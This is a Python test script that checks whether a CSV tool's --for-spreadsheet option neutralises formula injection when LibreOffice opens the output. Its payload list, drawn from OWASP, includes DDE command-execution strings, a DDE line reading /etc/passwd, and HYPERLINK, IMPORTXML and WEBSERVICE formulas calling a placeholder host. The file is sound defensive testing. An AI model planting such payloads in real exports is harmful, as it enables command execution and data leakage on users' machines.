#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""--for-spreadsheet and =eu, opened by LibreOffice with formulas evaluated: no cell is a formula, and the texts are all there.

The same payloads without the option are the control: there LibreOffice must find formulas, else the test proves nothing."""
import csv
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as xml

TOP = pathlib.Path(os.environ.get('TOP') or pathlib.Path(__file__).resolve().parents[2])
OUT = pathlib.Path(os.environ.get('OUT') or TOP / 'bin' / '.plain')
TOOL = (TOP / 'bin' if OUT.name == '.plain' else OUT / 'bin') / 'tag-topics'
TABLE = '{urn:oasis:names:tc:opendocument:xmlns:table:1.0}'
TEXT = '{urn:oasis:names:tc:opendocument:xmlns:text:1.0}'
# Collected from OWASP's page on CSV injection and from what spreadsheets take for a formula.
PAYLOADS = ['=1+1', '+1+1', '-1+1', '@SUM(1;1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', "'=1+1", '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)',
            "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/"&A1;"click")', '=IMPORTXML("http://x.example/";"//a")',
            '=WEBSERVICE("http://x.example/")', '+49 30 1234567', '-5', '-5,5', '+5.5', 'a";=1+1', 'x;=1+1', 'x,=1+1', '=1+1;=2+2', '=1+1,=2+2', '%3D1+1',
            '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '=\n1+1', '{=1+1}', "-2+3+cmd|' /C calc'!A0", '@A1', '=A1:A3', '\x0b=1+1', '\x0c=1+1', '==1+1',
            '-A1', '+A1', '=SUM(A1:A9)*1', "=DDE('soffice';'/etc/passwd';'A1')", '="a"&"b"', '\u2212' + '1+1', '"=1+1"', '\x1f=1+1']


def convert(office, folder, name, separator):
    """Opens it as UTF-8 with this separator, formulas evaluated and the language English (USA). Returns its cells: (formula, text)."""
    tokens = 'CSV:%d,34,76,1,,1033,false,true,false,false,false,0,true' % ord(separator)
    subprocess.run([office, '-env:UserInstallation=file://%s/profile' % folder, '--headless', '--norestore', '--infilter=' + tokens, '--convert-to',
                    'fods', '--outdir', folder / 'opened', folder / name], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=300,
                   env=dict(os.environ, HOME=str(folder)))
    opened = folder / 'opened' / (pathlib.Path(name).stem + '.fods')
    if not opened.exists():
        print('LibreOffice does not open %s' % name)
        sys.exit(1)
    return [(c.get(TABLE + 'formula'), '\n'.join(''.join(p.itertext()) for p in c.findall(TEXT + 'p')))
            for c in xml.parse(opened).iter(TABLE + 'table-cell')]


def main():
    office = shutil.which('soffice')
    if not office or OUT.name != '.plain':
        print('needs LibreOffice (libreoffice-calc)' if not office else 'once, with the plain build')
        return 77
    problems = []
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        with open(folder / 'raw.csv', 'w', newline='', encoding='utf-8') as f:
            rows = csv.writer(f, quoting=csv.QUOTE_ALL, lineterminator='\n')
            rows.writerow(['message_id', 'text', '=1+2'])
            rows.writerows([i, 'Where is it?', p] for i, p in enumerate(PAYLOADS))
        control = convert(office, folder, 'raw.csv', ',')
        evaluated = sum(formula is not None for formula, _ in control)
        if evaluated < 10:
            problems.append('the control has only %d formulas: this LibreOffice evaluates none' % evaluated)
        cells = 0
        for option, file, separator in (('--for-spreadsheet', 'plain.csv', ','), ('--for-spreadsheet=eu', 'eu.csv', ';')):
            done = subprocess.run([TOOL, option, '-o', folder / file, folder / 'raw.csv'], stderr=subprocess.PIPE)
            if done.returncode != 0 or done.stderr:
                problems.append('%s: status %d: %s' % (option, done.returncode, done.stderr))
                continue
            opened = convert(office, folder, file, separator)
            cells += len(opened)
            problems += ['%s: a formula %s, shown as %r' % (option, formula, text) for formula, text in opened if formula is not None]
            texts = {re.sub(r'[\s\x00-\x1f]', '', text).lstrip("'") for _, text in opened}
            for payload in PAYLOADS:
                if re.fullmatch(r'[-+]?[0-9.,]+', payload) or re.search(r'[\x00-\x08\x0b-\x1f]', payload):
                    continue  # numbers are shown as such; XML has no such characters
                if re.sub(r'[\s\ufeff]', '', payload).lstrip("'") not in {t.replace('\ufeff', '') for t in texts}:
                    problems.append('%s: %r is not to be found' % (option, payload))
    print('\n'.join(problems))
    print('%d cells, 0 formulas; %d in the control' % (cells, evaluated) if not problems else '%d problems' % len(problems))
    return 1 if problems else 0


if __name__ == '__main__':
    sys.exit(main())
